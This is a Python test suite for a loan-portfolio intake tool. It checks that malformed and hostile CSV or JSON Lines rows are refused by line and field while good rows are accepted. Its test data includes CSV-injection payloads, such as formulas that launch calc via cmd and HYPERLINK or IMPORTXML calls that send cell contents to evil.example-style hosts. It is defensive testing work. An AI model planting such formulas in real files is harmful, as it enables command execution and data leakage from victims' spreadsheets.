"""Bad input at the intake door (issue 13): what a portfolio file from the outside can hold.

Broken encodings, byte-order marks, huge cells and rows, quotes never closed, formula cells
(CSV injection: `=cmd|...`, `+`, `-`, `@`), NUL bytes and other control characters, wrong cell
counts. Each bad row is refused with the line it starts on and the field, nothing else changes, and
every good row still goes in. Formula cells are refused (not neutralised), so no workflow input, and
nothing written from one, ever starts with a formula.

Generated files (hypothesis: good rows mixed with bad rows of every kind, LF or CRLF, with or without
a UTF-8 byte-order mark, multi-line quoted addresses) are read and checked row by row; arbitrary
bytes after a good header never break the reader; JSON Lines gets the same door. On a real dev
server, generated portfolios go in through `intake()` (only the good loans have a workflow) and one
file with every kind goes through `collections intake`.
"""

from __future__ import annotations

import codecs
import io
import json
import os
import subprocess
import sys
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from temporalio.service import RPCError, RPCStatusCode

from cli import intake as intake_mod
from cli.intake import CSV_COLUMNS, MAX_CELL_CHARS, MAX_ROW_CHARS, PortfolioError, cell_problem, decode, read_csv, read_jsonl
from tests.harness import roster_policy, write_policy
from domain import contract

ROOT = Path(__file__).resolve().parent.parent
HEADER = list(CSV_COLUMNS)
TEXT_FIELDS = ("borrower_id", "name", "address")
"""Where an attacker's text can sit and the domain would take any text: the door must refuse it."""
DUE = (datetime.now(tz=UTC) - timedelta(days=20)).date().isoformat()

SETTINGS = dict(deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])

# ------------------------------------------------------------------------------------ generating files

NAME_CHARS = st.characters(codec="utf-8", categories=("Lu", "Ll", "Lo"))
WORD = st.text(alphabet=NAME_CHARS, min_size=1, max_size=12)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff20", " =", "\t=", "\t@")
FORMULA_BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "2+3+cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://e.example/?",B2),"//a")',
    "A1",
)
CONTROLS = [chr(c) for c in (*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x85, 0x9B)]
BAD_BYTES = (b"\xff", b"\xc3(", b"\xe9t\xe9", "张三".encode("gb18030"), b"\x80abc", b"\xed\xa0\x80")
KINDS = ("formula", "nul", "control", "bad_utf8", "bom_in_cell", "big_cell", "huge_row", "short", "long", "unclosed_quote")


@dataclass
class Expected:
    loan_id: str
    line: int
    kind: str  # "good" or one of KINDS
    field: str | None = None


def _quote(cell: str) -> str:
    if any(c in cell for c in ',"\r\n') or cell != cell.strip():
        return '"' + cell.replace('"', '""') + '"'
    return cell


@st.composite
def good_cells(draw: st.DrawFn, loan_id: str) -> dict[str, str]:
    name = " ".join(draw(st.lists(WORD, min_size=1, max_size=3)))
    address = draw(st.one_of(
        st.just(""),
        st.builds(lambda a, b: f"{a} Road, {b}", WORD, WORD),  # a comma: quoted
        st.builds(lambda a, b: f"{a} Road\n{b}", WORD, WORD),  # a line break: quoted, two physical lines
    ))
    return {
        "loan_id": loan_id,
        "currency": "CNY",
        "principal": str(draw(st.decimals(min_value="0.01", max_value="999999.99", places=2))),
        "interest": draw(st.sampled_from(["", "0.00", "12.50"])),
        "penalty": "",
        "fees": "",
        "annual_interest_rate": draw(st.sampled_from(["0.1825", "0.12", "0"])),
        "due_date": DUE,
        "borrower_id": f"B-{loan_id}",
        "name": name,
        "phone": draw(st.sampled_from(["", "+8613800000000", "13800000000", "+44 7700 900000"])),
        "email": draw(st.sampled_from(["", f"{loan_id.lower()}@example.com"])),
        "address": address,
        "timezone": draw(st.sampled_from(["", "Asia/Shanghai", "Europe/London"])),
        "locale": draw(st.sampled_from(["", "zh-CN", "en"])),
    }


@st.composite
def bad_record(draw: st.DrawFn, loan_id: str, kind: str, placeholders: dict[str, bytes]) -> tuple[str, str | None]:
    """A record (without its line end) of this kind of badness, and the field the refusal must name."""
    cells = draw(good_cells(loan_id))
    cells["address"] = cells["address"].replace("\n", " ")  # one physical line: its neighbours' lines are known
    target = draw(st.sampled_from(TEXT_FIELDS))
    value = cells[target] or "x"

    def at(text: str, insert: str) -> str:
        i = draw(st.integers(0, len(text)))
        return text[:i] + insert + text[i:]

    if kind == "formula":
        cells[target] = draw(st.sampled_from(FORMULA_PREFIXES)) + draw(st.sampled_from(FORMULA_BODIES))
    elif kind == "nul":
        cells[target] = at(value, "\x00")
    elif kind == "control":
        cells[target] = at(value, draw(st.sampled_from(CONTROLS)))
    elif kind == "bad_utf8":
        token = f"\u00a7BAD{len(placeholders)}\u00a7"  # replaced by bytes that are not UTF-8 once encoded
        placeholders[token] = draw(st.sampled_from(BAD_BYTES))
        cells[target] = at(value, token)
    elif kind == "bom_in_cell":
        cells[target] = at(value, "\ufeff")
    elif kind == "big_cell":
        target = draw(st.sampled_from(("name", "address")))
        cells[target] = draw(st.sampled_from("abcé张")) * draw(st.integers(MAX_CELL_CHARS + 1, 4 * MAX_CELL_CHARS))
    elif kind == "huge_row":
        target = draw(st.sampled_from(("name", "address")))
        cells[target] = "y" * draw(st.integers(MAX_ROW_CHARS + 1, 3 * MAX_ROW_CHARS))
    elif kind == "short":
        keep = draw(st.integers(1, len(HEADER) - 1))
        return ",".join(_quote(cells[c]) for c in HEADER[:keep]), HEADER[keep]
    elif kind == "long":
        extra = draw(st.integers(1, 3))
        text = ",".join(_quote(cells[c]) for c in HEADER) + ",extra" * extra
        return text, f"cells {len(HEADER) + 1}-{len(HEADER) + extra}" if extra > 1 else f"cell {len(HEADER) + 1}"
    elif kind == "unclosed_quote":
        target = "name"
        parts = [_quote(cells[c]) if c != "name" else '"' + cells["name"].replace('"', "") for c in HEADER]
        return ",".join(parts), target
    parts = [_quote(cells[c]) for c in HEADER]
    return ",".join(parts), target


@st.composite
def portfolios(draw: st.DrawFn, max_rows: int = 12) -> tuple[bytes, list[Expected]]:
    """A CSV file's bytes and what the door must make of each row."""
    ending = draw(st.sampled_from(["\n", "\r\n"]))
    bom = draw(st.booleans())
    tag = draw(st.from_regex(r"[A-Z]{3}", fullmatch=True))
    kinds = draw(st.lists(st.one_of(st.just("good"), st.sampled_from(KINDS)), min_size=1, max_size=max_rows))
    placeholders: dict[str, bytes] = {}
    records: list[str] = []
    expected: list[Expected] = []
    line = 2
    for i, kind in enumerate(kinds):
        loan_id = f"{tag}-{i}"
        if kind == "good":
            cells = draw(good_cells(loan_id))
            record = ",".join(_quote(cells[c]) for c in HEADER)
            field = None
        else:
            record, field = draw(bad_record(loan_id, kind, placeholders))
        expected.append(Expected(loan_id, line, kind, field))
        records.append(record + ending)
        line += len(list(io.StringIO(record + ending, newline="")))
    text = ("\ufeff" if bom else "") + ",".join(HEADER) + ending + "".join(records)
    data = text.encode("utf-8")
    for token, raw in placeholders.items():
        data = data.replace(token.encode("utf-8"), raw)
    return data, expected


def check_against(portfolio: intake_mod.Portfolio, expected: list[Expected]) -> None:
    accepted = {row.line: row.input.loan.loan_id for row in portfolio.rows}
    by_line: dict[int, list[intake_mod.Rejection]] = {}
    for r in portfolio.rejected:
        by_line.setdefault(r.line, []).append(r)
    for exp in expected:
        if exp.kind == "good":
            assert accepted.get(exp.line) == exp.loan_id, (exp, by_line.get(exp.line))
            continue
        assert exp.line not in accepted, f"a {exp.kind} row went in: {exp}"
        refusals = by_line.get(exp.line)
        assert refusals, f"the {exp.kind} row on line {exp.line} was not refused"
        assert [r.field for r in refusals] == [exp.field], (exp, refusals)
        reason = refusals[0].reason
        wanted = {
            "formula": ["formula"], "nul": ["NUL byte"], "control": ["control character"],
            "bad_utf8": ["not UTF-8"], "bom_in_cell": ["byte-order mark"], "big_cell": ["a cell holds at most"],
            "huge_row": ["a row holds at most"], "short": ["cells", "missing"], "long": ["cells"],
            "unclosed_quote": [],
        }[exp.kind]
        assert all(w in reason for w in wanted), (exp, reason)
        if exp.kind == "unclosed_quote":
            assert "never closed" in reason or "not CSV" in reason, reason
    # Nothing else: every rejection belongs to a bad row, every accepted row to a good one.
    bad_lines = {e.line for e in expected if e.kind != "good"}
    assert set(by_line) <= bad_lines, sorted(set(by_line) - bad_lines)
    assert set(accepted) == {e.line for e in expected if e.kind == "good"}


# ------------------------------------------------------------------------------------ the door, generated


@settings(max_examples=150, **SETTINGS)
@given(portfolios())
def test_generated_files_good_rows_go_in_bad_rows_are_refused_by_line_and_field(case):
    data, expected = case
    check_against(read_csv(decode(data)), expected)


@settings(max_examples=200, **SETTINGS)
@given(st.lists(st.binary(max_size=200), max_size=8), st.sampled_from([b"\n", b"\r\n", b"\r"]))
def test_arbitrary_bytes_after_a_good_header_never_break_the_reader(rows, ending):
    data = ",".join(HEADER).encode() + ending + ending.join(rows)
    portfolio = read_csv(decode(data))
    lines = data.count(b"\n") + data.count(b"\r") + 2
    for r in portfolio.rejected:
        assert 2 <= r.line <= lines and r.reason
    for row in portfolio.rows:  # whatever went in passed the door, cell by cell
        loan, borrower = row.input.loan, row.input.loan.borrower
        for value in (loan.loan_id, borrower.borrower_id, borrower.name, borrower.address or "",
                      borrower.email or "", borrower.phone or ""):
            assert cell_problem(value) is None, value


@settings(max_examples=100, **SETTINGS)
@given(st.lists(st.one_of(st.just("good"), st.sampled_from(
    ("formula", "nul", "control", "bad_utf8", "bom_in_cell", "big_cell", "not_json"))), min_size=1, max_size=8),
    st.data())
def test_json_lines_get_the_same_door(kinds, data):
    lines: list[bytes] = []
    expected: list[tuple[str, int, str, str | None]] = []
    for i, kind in enumerate(kinds):
        loan_id = f"J-{i}"
        row = {k: v for k, v in data.draw(good_cells(loan_id)).items() if v}
        target = data.draw(st.sampled_from(TEXT_FIELDS))
        row.setdefault("address", "x")
        raw = None
        if kind == "formula":
            row[target] = data.draw(st.sampled_from(FORMULA_PREFIXES)) + data.draw(st.sampled_from(FORMULA_BODIES))
        elif kind == "nul":
            row[target] += "\x00"  # written as \u0000 by json.dumps
        elif kind == "control":
            row[target] += data.draw(st.sampled_from(CONTROLS))
        elif kind == "bom_in_cell":
            row[target] = "\ufeff" + row[target]
        elif kind == "big_cell":
            row[target] = "z" * (MAX_CELL_CHARS + 1)
        elif kind == "bad_utf8":
            raw = json.dumps(dict(row, **{target: "@@BAD@@"}), ensure_ascii=False).encode().replace(
                b"@@BAD@@", data.draw(st.sampled_from(BAD_BYTES)))
        elif kind == "not_json":
            raw = b'{"loan_id": "' + loan_id.encode() + b'", '
        lines.append(raw if raw is not None else json.dumps(row, ensure_ascii=data.draw(st.booleans())).encode())
        expected.append((loan_id, i + 1, kind, None if kind in ("good", "not_json") else target))
    portfolio = read_jsonl(decode(b"\n".join(lines) + b"\n"))
    accepted = {row.line: row.input.loan.loan_id for row in portfolio.rows}
    refused = {}
    for r in portfolio.rejected:
        refused.setdefault(r.line, []).append(r)
    for loan_id, line, kind, field in expected:
        if kind == "good":
            assert accepted.get(line) == loan_id, refused.get(line)
        else:
            assert line not in accepted and [r.field for r in refused[line]] == [field], (kind, refused.get(line))
    assert set(refused) == {line for _, line, kind, _ in expected if kind != "good"}


# ------------------------------------------------------------------------------------ the door, by example


def _row(**cells: str) -> str:
    base = {c: "" for c in HEADER}
    base.update(loan_id="EX-1", currency="CNY", principal="100.00", annual_interest_rate="0.10", due_date=DUE,
                borrower_id="B-1", name="Wang Wu")
    base.update(cells)
    return ",".join(_quote(base[c]) for c in HEADER)


def _read(*rows: str, bom: str = "", ending: str = "\n") -> intake_mod.Portfolio:
    return read_csv(decode((bom + ",".join(HEADER) + ending + ending.join(rows) + ending).encode("utf-8")))


@pytest.mark.parametrize(("value", "refused"), [
    ("=cmd|' /C calc'!A0", True),
    ("=1+2", True),
    ("+HYPERLINK(\"http://x\")", True),
    ("-2+3+cmd|' /C calc'!A0", True),
    ("@SUM(A1:A9)", True),
    ("\t=cmd|x", True),
    ("\uff1dcmd|x", True),  # full-width equals sign
    ("+8613800000000", False),  # a phone number
    ("+44 (0) 7700-900000", False),
    ("-", False),
    ("-12.50", False),  # a number: the domain decides
    ("Ann=Bob", False),  # not leading
    ("wang@example.com", False),
])
def test_formula_cells_are_refused_numbers_and_phone_numbers_are_not(value, refused):
    problem = cell_problem(value)
    assert (problem is not None and "formula" in problem) == refused, problem


def test_a_utf8_bom_is_accepted_a_utf16_file_is_refused_saying_so():
    portfolio = _read(_row(), bom="\ufeff", ending="\r\n")
    assert [r.input.loan.loan_id for r in portfolio.rows] == ["EX-1"] and not portfolio.rejected
    text = ",".join(HEADER) + "\n" + _row() + "\n"
    for bom, name in ((codecs.BOM_UTF16_LE, "UTF-16"), (codecs.BOM_UTF16_BE, "UTF-16"), (codecs.BOM_UTF32_LE, "UTF-32")):
        data = bom + text.encode("utf-16-le" if bom == codecs.BOM_UTF16_LE else "utf-16-be")
        with pytest.raises(PortfolioError, match=f"the file is {name}.*save it as UTF-8"):
            decode(data, "p.csv")
    with pytest.raises(PortfolioError, match="NUL bytes.*UTF-16"):
        read_csv(decode(text.encode("utf-16-le")))  # no byte-order mark: NULs everywhere


def test_each_kind_by_example_names_line_field_and_reason():
    gb = "张三".encode("gb18030")
    rows = [
        _row(loan_id="OK-1"),                                             # 2
        _row(loan_id="BAD-2", name="=cmd|' /C calc'!A0"),                  # 3
        _row(loan_id="BAD-3", address="Road\x00 1"),                      # 4
        _row(loan_id="BAD-4", name="NAMEPLACEHOLDER"),                     # 5: GB18030 bytes
        _row(loan_id="BAD-5", borrower_id="\ufeffB-5"),                   # 6
        _row(loan_id="BAD-6", name="x" * (MAX_CELL_CHARS + 5)),           # 7
        _row(loan_id="BAD-7", address="y" * (MAX_ROW_CHARS + 5)),         # 8
        "BAD-8,CNY,100.00",                                               # 9
        _row(loan_id="BAD-9") + ",surplus",                               # 10
        _row(loan_id="BAD-10", name="Bell\x07"),                          # 11
        _row(loan_id="OK-11", address="1 High St\nLondon"),               # 12-13
        _row(loan_id="BAD-12").replace("Wang Wu", '"Wang" Wu'),           # 14: text after a closing quote
        _row(loan_id="OK-13"),                                            # 15
        _row(loan_id="BAD-14").replace("Wang Wu", '"Wang Wu'),            # 16: a quote never closed
        _row(loan_id="OK-15"),                                            # 17
    ]
    data = (",".join(HEADER) + "\n" + "\n".join(rows) + "\n").encode("utf-8").replace(b"NAMEPLACEHOLDER", gb)
    portfolio = read_csv(decode(data))
    assert [(r.line, r.input.loan.loan_id) for r in portfolio.rows] == [(2, "OK-1"), (12, "OK-11"), (15, "OK-13"), (17, "OK-15")]
    got = {(r.line, r.field): r for r in portfolio.rejected}
    assert set(got) == {(3, "name"), (4, "address"), (5, "name"), (6, "borrower_id"), (7, "name"), (8, "address"),
                        (9, "interest"), (10, f"cell {len(HEADER) + 1}"), (11, "name"), (14, "name"), (16, "name")}
    assert "formula (CSV injection)" in got[3, "name"].reason and got[3, "name"].loan_id == "BAD-2"
    assert "NUL byte (at character 5)" in got[4, "address"].reason
    assert "not UTF-8" in got[5, "name"].reason and "GB18030" in got[5, "name"].reason and "张三" in got[5, "name"].reason
    assert "byte-order mark" in got[6, "borrower_id"].reason
    assert f"{MAX_CELL_CHARS + 5} characters long" in got[7, "name"].reason
    assert "a row holds at most" in got[8, "address"].reason
    assert "has 3 cells" in got[9, "interest"].reason and "interest, penalty" in got[9, "interest"].reason
    assert "has 16 cells" in got[10, f"cell {len(HEADER) + 1}"].reason
    assert "U+0007" in got[11, "name"].reason
    assert "not CSV" in got[14, "name"].reason
    assert "never closed" in got[16, "name"].reason


def test_a_quote_never_closed_does_not_swallow_the_rows_after_it():
    rows = [_row(loan_id="Q-1").replace("Wang Wu", '"Wang Wu')] + [_row(loan_id=f"Q-{i}") for i in range(2, 40)]
    portfolio = _read(*rows)
    assert [r.line for r in portfolio.rejected] == [2]
    assert [r.input.loan.loan_id for r in portfolio.rows] == [f"Q-{i}" for i in range(2, 40)]


# ------------------------------------------------------------------------------------ through a real server


async def _absent(client, loan_id: str) -> bool:
    try:
        await client.get_workflow_handle(contract.workflow_id(loan_id)).describe()
    except RPCError as exc:
        return exc.status == RPCStatusCode.NOT_FOUND
    return False


@pytest.mark.devserver
@settings(max_examples=8, **SETTINGS)
@given(portfolios(max_rows=6))
async def test_generated_files_through_intake_on_the_dev_server(dev_env, tmp_path_factory, case):
    data, expected = case
    run = uuid.uuid4().hex[:6].upper()
    # Unique loan ids per example (hypothesis repeats its tags): every "<tag>-" gets this run in front.
    tag = expected[0].loan_id.split("-")[0]
    text = data.replace(f"{tag}-".encode(), f"{run}{tag}-".encode()).replace(
        f"{tag.lower()}-".encode(), f"{run.lower()}{tag.lower()}-".encode())
    expected = [Expected(f"{run}{e.loan_id}", e.line, e.kind, e.field) for e in expected]
    path = tmp_path_factory.mktemp("hostile") / "portfolio.csv"
    path.write_bytes(text)
    client = dev_env.client
    report = await intake_mod.intake(client, f"hostile-{run}", path, policy=roster_policy())
    check_against(intake_mod.read_portfolio(path, roster_policy()), expected)
    good = sorted(e.loan_id for e in expected if e.kind == "good")
    assert sorted(report.started) == good and report.already_present == []
    assert sorted({r.line for r in report.rejected}) == sorted(e.line for e in expected if e.kind != "good")
    for e in expected:
        if e.kind != "good":
            assert await _absent(client, e.loan_id), f"the refused {e.kind} row {e.loan_id} has a workflow"
    for loan_id in good:
        await client.get_workflow_handle(contract.workflow_id(loan_id)).terminate("test done")


@pytest.mark.devserver
async def test_collections_intake_refuses_each_bad_row_by_line_and_field_and_takes_the_rest(dev_env, tmp_path):
    run = uuid.uuid4().hex[:6].upper()
    rows = [
        _row(loan_id=f"{run}-OK1"),
        _row(loan_id=f"{run}-F", name="=cmd|' /C calc'!A0"),
        _row(loan_id=f"{run}-N", address="Road\x00 1"),
        _row(loan_id=f"{run}-U", name="NAMEPLACEHOLDER"),
        f"{run}-S,CNY,100.00",
        _row(loan_id=f"{run}-OK2", address="1 High St, London"),
    ]
    data = ("\ufeff" + ",".join(HEADER) + "\r\n" + "\r\n".join(rows) + "\r\n").encode("utf-8")
    path = tmp_path / "hostile.csv"
    path.write_bytes(data.replace(b"NAMEPLACEHOLDER", b"\xff\xfe"))
    target = dev_env.client.service_client.config.target_host
    env = dict(os.environ, PYTHONPATH=str(ROOT), COLUMNS="250")
    proc = subprocess.run(
        [sys.executable, "-m", "cli", "intake", str(path), "--address", target, "--task-queue", f"hostile-{run}", "--quiet",
         "--policy", str(write_policy(tmp_path / "lender.toml"))],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=120,
    )
    out = proc.stdout
    assert proc.returncode == 1, out + proc.stderr
    assert "started 2, already present 0, rejected 4 (on 4 line(s))" in out
    table = [[c.strip() for c in row.split("\u2502")[1:-1]] for row in out.splitlines() if row.startswith("\u2502")]
    listed = {(cells[0], cells[2]) for cells in table if len(cells) == 4 and cells[0]}
    assert {("3", "name"), ("4", "address"), ("5", "name"), ("6", "interest")} <= listed, out
    assert "formula (CSV injection)" in out and "NUL byte" in out and "not UTF-8" in out and "has 3 cells" in out
    client = dev_env.client
    for loan in ("OK1", "OK2"):
        await client.get_workflow_handle(contract.workflow_id(f"{run}-{loan}")).terminate("test done")
    for loan in ("F", "N", "U", "S"):
        assert await _absent(client, f"{run}-{loan}")
